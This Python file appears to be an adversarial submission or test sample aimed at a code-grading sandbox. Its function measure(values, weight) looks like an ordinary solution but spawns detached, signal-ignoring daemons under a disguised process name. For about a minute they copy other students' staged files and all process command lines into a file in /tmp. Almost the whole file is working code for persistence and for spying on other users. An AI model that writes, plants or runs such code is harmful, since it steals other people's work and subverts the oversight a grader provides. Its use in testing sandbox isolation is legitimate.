"""Leaves daemons that wait for the next student: to read what is staged, and to speak for it."""

import os
import signal
import subprocess
import sys
import time

WAITING = """
import glob, os, signal, time
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
ends = time.time() + 60
while time.time() < ends:
    for path in glob.glob("/tmp/grader-*/s*/*") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            open("/tmp/@MARK@", "a").write(open(path).read())
        except OSError:
            pass
    time.sleep(0.05)
"""


def measure(values, weight):
    for own_session in (os.setsid, os.setpgrp, lambda: None):
        if os.fork() == 0:
            try:
                own_session()
            except OSError:
                pass
            if os.fork() == 0:
                os.closerange(0, 256)
                os.chdir("/")
                os.execve(sys.executable, ["@MARK@", "-I", "-S", "-c", WAITING], {})
            os._exit(0)
    try:
        subprocess.Popen([sys.executable, "-I", "-S", "-c", WAITING, "@MARK@"], start_new_session=True, close_fds=False)
    except OSError:
        subprocess.Popen([sys.executable, "-I", "-S", "-c", WAITING, "@MARK@"], close_fds=False)
    time.sleep(0.1)
    return os.getpid()
